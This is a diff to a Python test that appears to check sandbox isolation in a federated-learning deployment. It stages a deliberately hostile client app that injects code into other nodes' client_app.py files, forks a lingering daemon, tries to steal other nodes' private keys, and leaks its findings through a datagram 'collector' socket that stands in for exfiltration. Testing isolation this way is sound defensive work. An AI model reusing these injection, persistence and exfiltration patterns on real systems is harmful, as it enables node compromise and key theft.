@@ -42,6 +42,7 @@ import json
 import os
 import shutil
 import signal
+import socket
 import stat
 import subprocess
 import sys
@@ -188,11 +189,14 @@ LOW_NOISE = {low_noise!r}
 OTHER = {other!r}  # socket -> the other agent's socket
 KEYS = {keys!r}  # socket -> the other node's private key
 HOMES = {homes!r}  # socket -> this node's SuperNode home (its FLWR_HOME)
-PLANTED = os.path.join(EXFIL, "planted.log")
+# Everything outside its run's folder is read-only in the sandbox: what it learns leaves by a socket (a
+# datagram "name NUL text" to the test's collector, which appends text to EXFIL/name), as it could to anywhere.
+COLLECTOR = os.path.join(EXFIL, "collector.sock")
+PLANTED = "planted.log"
 DAEMON_MARK = "fedfilter-hostile-daemon"
 DAEMON = """
 import socket, sys, time
-sock, log = sys.argv[1], sys.argv[2]
+sock, log, collector = sys.argv[1], sys.argv[2], sys.argv[3]
 end = time.time() + 150
 while time.time() < end:
     line = str(time.time())
@@ -204,10 +208,19 @@ while time.time() < end:
         line += " connected"
     except OSError as exc:
         line += " " + type(exc).__name__
-    with open(log, "a") as f:
-        f.write(line + chr(10))
+    out = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    out.sendto(log.encode() + bytes(1) + (line + chr(10)).encode(), collector)
+    out.close()
     time.sleep(1)
 """
+
+
+def send(name, text):
+    out = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    try:
+        out.sendto(name.encode() + bytes(1) + text.encode(), COLLECTOR)
+    finally:
+        out.close()
 
 
 def plant():
@@ -219,7 +232,9 @@ def plant():
                 path = os.path.join(dirpath, "client_app.py")
                 try:
                     with open(path, "a") as out:
-                        out.write("\\nopen(" + repr(PLANTED) + ", 'a').write('planted code ran\\\\n')\\n")
+                        out.write("\\nimport socket as _s; _o = _s.socket(_s.AF_UNIX, _s.SOCK_DGRAM); "
+                                  "_o.sendto(b'" + PLANTED + "' + bytes(1) + b'planted code ran\\\\n', "
+                                  + repr(COLLECTOR) + ")\\n")
                     done.append(path)
                 except OSError as exc:
                     done.append(path + ": " + type(exc).__name__)
@@ -228,14 +243,14 @@ def plant():
 
 def fork_daemon(sock):
     import subprocess, sys
-    log = os.path.join(EXFIL, "daemon-" + os.path.basename(sock) + ".log")
+    log = "daemon-" + os.path.basename(sock) + ".log"
     import time
-    subprocess.Popen([sys.executable, "-c", DAEMON, sock, log, DAEMON_MARK], start_new_session=True,
+    subprocess.Popen([sys.executable, "-c", DAEMON, sock, log, COLLECTOR, DAEMON_MARK], start_new_session=True,
                      stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     deadline = time.time() + 20
-    while time.time() < deadline and not os.path.exists(log):  # it is running: it wrote its first line
+    while time.time() < deadline and not os.path.exists(os.path.join(EXFIL, log)):  # it sent its first line
         time.sleep(0.05)
-    return os.path.exists(log)
+    return os.path.exists(os.path.join(EXFIL, log))
 
 
 def steal(path):
@@ -305,13 +320,7 @@ def handle(msg, context):
         record["failed"] = type(exc).__name__ + ": " + str(exc)
         raise
     finally:
-        line = (json.dumps(record) + "\\n").encode()
-        name = os.path.join(EXFIL, os.path.basename(sock) + ".jsonl")
-        fd = os.open(name, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o666)
-        try:
-            os.write(fd, line)
-        finally:
-            os.close(fd)
+        send(os.path.basename(sock) + ".jsonl", json.dumps(record) + "\\n")
     if code != 0:
         return Message(Error(code=code, reason=reason), reply_to=msg)
     return Message(encode_content(reply_config, reply_arrays), reply_to=msg)
@@ -339,6 +348,48 @@ def stage_hostile_app(dest: Path, world: World) -> Path:
     compile(code, "client_app.py", "exec")
     (app / "client_agent" / "client_app.py").write_text(code)
     return app
+
+
+class Collector:
+    """The hostile bundle's way out: a datagram socket in the exfil folder, each ``name NUL text`` appended to
+    ``exfil/name``. In the sandbox no folder but its run's is writable (simulations/deploy/clientapp_sandbox.py),
+    so the bundle leaks what it finds as it could to anywhere, by a socket."""
+
+    def __init__(self, folder: Path) -> None:
+        self.folder = folder
+        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+        self.sock.bind(str(folder / "collector.sock"))
+        os.chmod(folder / "collector.sock", 0o666)
+        self.sock.settimeout(0.2)
+        self.last = time.monotonic()
+        self.stopping = threading.Event()
+        self.thread = threading.Thread(target=self._run, daemon=True)
+        self.thread.start()
+
+    def _run(self) -> None:
+        while not self.stopping.is_set():
+            try:
+                data = self.sock.recv(1 << 20)
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            self.last = time.monotonic()
+            name, _, text = data.partition(b"\0")
+            safe = os.path.basename(name.decode(errors="replace"))
+            if safe and safe != "collector.sock":
+                with open(self.folder / safe, "ab") as out:
+                    out.write(text)
+
+    def settle(self, quiet_s: float = 1.0) -> None:
+        """Return once nothing has arrived for ``quiet_s`` (every datagram sent before is written)."""
+        while time.monotonic() - self.last < quiet_s:
+            time.sleep(0.1)
+
+    def close(self) -> None:
+        self.stopping.set()
+        self.thread.join(timeout=5)
+        self.sock.close()
 
 
 def read_exfil(folder: Path) -> list[dict[str, Any]]:
@@ -401,6 +452,7 @@ class World:
     supernodes: list[Any]
     exfil: Path
     launchers: list[NodeLauncher] = field(default_factory=list)
+    collector: Collector | None = None
     results: dict[str, Any] = field(default_factory=dict)
 
 
@@ -433,7 +485,7 @@ def build_world(root: Path) -> World:
     bin_dir = make_node_venv(root / "nodevenv", python)
     launchers = [NodeLauncher(prefix=setpriv(uid), bin_dir=bin_dir, env=NODE_ENV) for uid in NODE_UIDS]
     dep = LocalDeployment(root / "deploy", node_launcher=launchers[0], sandbox_clientapps=not OLD_LAYOUT)
-    return World(root, dep, agents, [], [], [], exfil, launchers)
+    return World(root, dep, agents, [], [], [], exfil, launchers, Collector(exfil))
 
 
 def start_world(world: World) -> None:
@@ -504,6 +556,8 @@ def world() -> Iterator[World]:
             for pid, _ in daemon_processes():  # only if the shim failed: nothing the test caused outlives it
                 with contextlib.suppress(ProcessLookupError):
                     os.kill(pid, signal.SIGKILL)
+            if dep is not None and w.collector is not None:
+                w.collector.close()
             shutil.rmtree(root, ignore_errors=True)
 
 
@@ -552,6 +606,8 @@ def scenario(world: World) -> World:
 
     world.results["hostile"] = run_hostile(world, "hostile")
     world.results["after_hostile"] = [snapshot(a.ledger) for a in world.agents]
+    assert world.collector is not None
+    world.collector.settle()
     world.results["exfil"] = read_exfil(world.exfil)
     world.results["daemons_after_hostile"] = daemon_processes()
     world.results["daemon_logs_after_hostile"] = daemon_log_sizes(world)
@@ -559,6 +615,7 @@ def scenario(world: World) -> World:
         world.results["honest2"] = dep.run(stage_app(world.root / "app"), run_config("honest2", 1), timeout=300)
     except DeploymentError as exc:
         world.results["honest2"] = exc
+    world.collector.settle(quiet_s=2.0)  # a daemon still alive would send within a second
     planted = world.exfil / "planted.log"
     world.results["planted_ran"] = planted.read_text() if planted.exists() else ""
     world.results["daemon_logs_after_honest2"] = daemon_log_sizes(world)
